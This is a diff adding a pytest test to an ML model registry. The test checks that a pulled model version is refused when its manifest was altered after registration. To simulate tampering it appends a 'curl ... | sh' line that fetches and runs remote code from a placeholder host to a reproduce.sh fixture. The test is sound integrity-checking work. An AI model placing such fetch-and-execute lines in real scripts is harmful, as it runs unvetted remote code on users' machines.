@@ -263,3 +263,87 @@ def test_a_serving_process_follows_the_alias_refuses_a_bad_version_and_rolls_bac
         stop.set()
     assert load.failed == 0 and load.served > 100
     assert [s["to"] for s in runner.swaps] == ["20261122.00000002", "20261121.00000001"]
+
+
+def test_pull_refuses_a_store_version_whose_manifest_was_edited_after_registration(built, mlflow_server, aws_env,
+                                                                                     tmp_path):
+    """The store's manifest must hash to the registry's ``manifest_sha256``: an edited reproduce.sh, an extra
+    listed file or another canary sample, each re-hashed into the manifest (every file then matches it), is
+    refused before anything is installed; so is a version without the tag."""
+    import os
+
+    from factory_core.contracts import Manifest
+    from factory_core.errors import is_final
+    from factory_core.fsutil import sha256_file
+    from model_registry.pull import pull
+    from model_registry.registry import Registry
+    from model_registry.store import ManifestMismatch, S3Store, version_files
+
+    from .conftest import make_bucket
+
+    make_bucket(aws_env, "tamper")
+    cfg = load_config(profile="smoke", env={"FACTORY_HOME": str(tmp_path / "home")}, overrides={"registry": {
+        "tracking_uri": mlflow_server.uri, "store_uri": "s3://tamper/engines", "s3_endpoint_url": aws_env}})
+    store, reg = S3Store(cfg.store_uri, endpoint_url=aws_env), Registry(cfg.tracking_uri)
+    fam = "tamper_test"
+    versions, registered = {}, {}
+    for key in ("v1", "v2"):
+        e = _copy(built[key], tmp_path / f"{key}-{fam}")
+        m = json.loads((e / "manifest.json").read_text())
+        m["family"] = fam
+        (e / "manifest.json").write_text(json.dumps(m))
+        man = Manifest.model_validate(m)
+        uri = store.put_version(e, fam, "cpu", man.version)
+        registered[key] = sha256_file(e / "manifest.json")
+        versions[key] = reg.register(fam, "cpu", uri, man, registered[key], None, {}, key)
+    name, dest = f"{fam}.cpu", tmp_path / "serving"
+    reg.client.set_registered_model_alias(name, "prod", versions["v1"])
+    pull(cfg, fam, "cpu", "prod", dest)
+    base = dest / fam / "cpu"
+    installed = lambda: (os.readlink(base / "current"), sorted(p.name for p in (base / "versions").iterdir()))  # noqa: E731
+    before = installed()
+
+    v2 = tmp_path / f"v2-{fam}"
+    v2_version = json.loads((v2 / "manifest.json").read_text())["version"]
+
+    def upload(folder: Path) -> None:  # overwrite the stored version's objects, as an edit in the bucket would
+        for f in version_files(Manifest.model_validate_json((folder / "manifest.json").read_text())):
+            store.s3.put_object(Bucket="tamper", Key=store._vkey(fam, "cpu", v2_version, f),
+                                Body=(folder / f).read_bytes())
+
+    def edited(what: str) -> Path:
+        folder = _copy(v2, tmp_path / f"edited-{what}")
+        if what == "reproduce.sh":
+            new = tmp_path / "reproduce.sh"
+            new.write_text((folder / "reproduce.sh").read_text() + "curl -s http://example.invalid | sh\n")
+            _rehash(folder, "reproduce.sh", new)
+        elif what == "extra file":
+            (tmp_path / "notes.txt").write_text("listed, hashed, never registered")
+            _rehash(folder, "notes.txt", tmp_path / "notes.txt")
+        else:
+            with np.load(folder / "canary.npz") as z:
+                np.savez(tmp_path / "c.npz", inputs=z["inputs"] * 0, expected=z["expected"] * 0 + 0.5)
+            _rehash(folder, "canary.npz", tmp_path / "c.npz")
+        return folder
+
+    reg.client.set_registered_model_alias(name, "prod", versions["v2"])
+    for what in ("reproduce.sh", "extra file", "canary.npz"):
+        folder = edited(what)
+        upload(folder)
+        with pytest.raises(ManifestMismatch) as err:
+            pull(cfg, fam, "cpu", "prod", dest)
+        msg = str(err.value)
+        assert f"refusing {name} v{versions['v2']}" in msg, msg
+        assert f"manifest.json has sha256 {sha256_file(folder / 'manifest.json')}" in msg, msg
+        assert f"the registry recorded manifest_sha256 {registered['v2']}" in msg and "nothing installed" in msg, msg
+        assert is_final(err.value) and installed() == before  # nothing installed, nothing left behind
+    upload(v2)  # the registered bytes again: installed
+    assert pull(cfg, fam, "cpu", "prod", dest).changed and installed()[0].startswith(f"versions/{versions['v2']}-")
+
+    # a version without the tag cannot be verified: refused, even when installed earlier (a rollback)
+    reg.client.delete_model_version_tag(name, versions["v1"], "manifest_sha256")
+    reg.client.set_registered_model_alias(name, "prod", versions["v1"])
+    now = installed()
+    with pytest.raises(ManifestMismatch, match=f"refusing {name} v{versions['v1']}: it has no manifest_sha256 tag"):
+        pull(cfg, fam, "cpu", "prod", dest)
+    assert installed() == now
